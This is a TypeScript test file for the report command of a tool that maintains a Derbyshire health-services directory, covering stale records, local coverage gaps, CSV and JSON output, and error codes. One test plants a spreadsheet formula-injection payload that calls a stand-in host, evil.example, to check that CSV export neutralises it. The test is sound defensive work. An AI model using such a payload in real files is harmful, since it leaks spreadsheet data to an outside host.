import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { loadDirectory } from '../../directory/load';
import { addMonths } from '../../maintain/dates';
import { buildReport, NATIONAL_ONLY, REPORT_SECTIONS, renderReportText } from '../../maintain/report';
import { DataCopy, realDirectory } from '../support/directory';
import { run, TODAY } from './support';

describe('directory report', () => {
  let data: DataCopy;

  before(() => {
    data = new DataCopy();
    // Three records reviewed long ago, in a known order, and one pregnancy service moved (and the
    // county's health visiting record retired) so that Chesterfield loses its local pregnancy services.
    data.edit('services/llbd.json', (s) => (s.reviewed = '2024-03-01'));
    data.edit('services/frank.json', (s) => (s.reviewed = '2023-06-15'));
    data.edit('topics/gambling.json', (t) => (t.reviewed = '2024-11-10'));
    data.edit('services/samaritans.json', (s) => (s.reviewed = '2025-11-01'));
    data.edit('services/chesterfield-royal-maternity.json', (s) => (s.places = ['derbyshire-dales']));
    data.edit('services/dchs-health-visiting-pregnancy.json', (s) => (s.retired = { date: '2026-12-02', reason: 'Taken out for this test.' }));
  });
  after(() => data.remove());

  it('lists records past their review date, oldest first, relative to --today', () => {
    const r = JSON.parse(run('report', '--data', data.root, '--today', '2026-01-01', '--json', '--only', 'stale').out);
    assert.deepEqual(r.map((s: { id: string }) => s.id), ['frank', 'llbd', 'gambling']);
    assert.deepEqual(r[0], { kind: 'service', id: 'frank', name: r[0].name, file: 'services/frank.json', reviewed: '2023-06-15', due: '2024-06-15', daysOverdue: 565 });
    assert.equal(r[2].kind, 'topic');
    // A year later the Samaritans record (reviewed 2025-11-01) is due as well.
    const later = JSON.parse(run('report', '--data', data.root, '--today', '2026-11-02', '--json', '--only', 'stale').out);
    assert.deepEqual(later.map((s: { id: string }) => s.id), ['frank', 'llbd', 'gambling', 'samaritans']);
  });

  it('--months changes the review period', () => {
    const r = JSON.parse(run('report', '--data', data.root, '--today', '2026-01-01', '--months', '24', '--json', '--only', 'stale').out);
    assert.deepEqual(r.map((s: { id: string }) => s.id), ['frank']);
    assert.equal(addMonths('2024-01-31', 1), '2024-02-29');
  });

  it('marks the Place x topic cells where staff would get only national services', () => {
    const report = buildReport(loadDirectory(data.root), { today: TODAY });
    const cell = (topic: string, place: string) => report.coverage.find((c) => c.topic === topic && c.place === place)!;
    assert.equal(cell('pregnancy', 'chesterfield').nationalOnly, true);
    assert.deepEqual(cell('pregnancy', 'chesterfield').local, []);
    assert.ok(cell('pregnancy', 'chesterfield').national.includes('tommys-pregnancy-line'));
    assert.equal(cell('pregnancy', 'derbyshire-dales').nationalOnly, false);
    assert.equal(cell('smoking', 'chesterfield').nationalOnly, false);

    const text = renderReportText(report);
    const row = text.split('\n').find((l) => /^\s+pregnancy\s/.test(l))!;
    // Columns: HP DD CHE BNE ERE AV SD DC.
    assert.deepEqual(row.trim().split(/\s+/), ['pregnancy', NATIONAL_ONLY, '1', NATIONAL_ONLY, NATIONAL_ONLY, NATIONAL_ONLY, NATIONAL_ONLY, NATIONAL_ONLY, '1']);
    assert.match(text, /NAT! marks a gap: staff in that Place would get only national services/);

    const csv = parse(run('report', '--data', data.root, '--today', TODAY, '--csv', '--only', 'coverage').out) as string[][];
    assert.deepEqual(csv[0], ['topic', 'high-peak', 'derbyshire-dales', 'chesterfield', 'bolsover-north-east', 'erewash', 'amber-valley', 'south-derbyshire', 'derby-city']);
    assert.equal(csv.find((r) => r[0] === 'pregnancy')![3], 'national only');
  });

  it('lists services with no contact route, and counts per topic and per Place', () => {
    const report = buildReport(realDirectory(), { today: TODAY });
    // Every offered service has a contact detail or an access route: none is a dead end.
    const noRoute = realDirectory().services.filter((s) => !s.contact.phone && !s.contact.text && !s.contact.email && !s.contact.website && !s.access);
    assert.deepEqual(noRoute, []);
    assert.deepEqual(report.missingContact, []);
    assert.equal(realDirectory().service('safe-haven-derby')!.access!.via, 'derbyshire-mh-helpline');
    const smoking = report.topics.find((t) => t.topic === 'smoking')!;
    assert.equal(smoking.services, realDirectory().services.filter((s) => s.topics.includes('smoking')).length);
    assert.equal(smoking.local + smoking.national, smoking.services);
    const city = report.places.find((p) => p.place === 'derby-city')!;
    assert.equal(city.services, realDirectory().services.filter((s) => s.places.includes('derby-city')).length);
    assert.equal(report.topics.length, 26);
    assert.equal(report.places.length, 8);
  });

  it('prints a readable table by default, CSV and JSON on request', () => {
    const text = run('report', '--data', data.root, '--today', '2026-01-01');
    assert.equal(text.code, 0);
    assert.match(text.out, /1\. Past their review date: 3 records, oldest first/);
    assert.match(text.out, /2023-06-15\s+2024-06-15\s+565\s+service\s+frank/);
    assert.match(text.out, /^Directory report for 2026-01-01[^\n]*\n\nCRISIS LINES TO CONFIRM/);
    assert.match(text.out, /2\. Contact details whose newest source is older than 24 months/);
    assert.match(text.out, /4\. Services with no way to contact them/);
    assert.match(text.out, /6\. Why each gap has no local service/);
    assert.match(text.out, /7\. Retired services/);
    assert.match(text.out, /8\. Services per topic/);
    assert.match(text.out, /9\. Services per Place/);
    const csv = run('report', '--data', data.root, '--today', '2026-01-01', '--csv').out;
    for (const section of REPORT_SECTIONS) assert.ok(csv.includes(`"# ${section}"`) || csv.includes(`# ${section}`), section);
    const json = JSON.parse(run('report', '--data', data.root, '--today', '2026-01-01', '--json').out);
    assert.deepEqual(Object.keys(json), ['today', 'months', 'crisisToConfirm', 'stale', 'staleContacts', 'undatedContacts', 'knownChanges', 'retired', 'missingContact', 'coverage', 'topics', 'places']);
    assert.equal(json.coverage.length, 26 * 8);
  });

  it('report --csv guards every cell against formulas, like export --csv', () => {
    const copy = new DataCopy();
    try {
      const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Samaritans")';
      copy.edit('services/frank.json', (s) => {
        s.name = formula;
        s.reviewed = '2023-06-15';
      });
      const out = run('report', '--data', copy.root, '--today', '2026-01-01', '--csv').out;
      const cells = (parse(out, { relax_column_count: true }) as string[][]).flat();
      assert.ok(cells.includes(`'${formula}`), 'the name is written, guarded');
      assert.deepEqual(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), [], 'no cell Excel would run');
    } finally {
      copy.remove();
    }
  });

  it('refuses bad options with usage (exit 64) and broken data with its problems (exit 1)', () => {
    assert.equal(run('report', '--months', 'twelve').code, 64);
    assert.equal(run('report', '--today', '1/1/2026').code, 64);
    assert.equal(run('report', '--only', 'everything').code, 64);
    const broken = new DataCopy();
    try {
      broken.edit('services/llbd.json', (s) => delete s.name);
      const r = run('report', '--data', broken.root, '--today', TODAY);
      assert.equal(r.code, 1);
      assert.match(r.err, /services\/llbd\.json: record 'llbd': field 'name': is missing/);
    } finally {
      broken.remove();
    }
  });

  it('an unknown command is a usage error', () => {
    assert.equal(run('frobnicate').code, 64);
  });
});
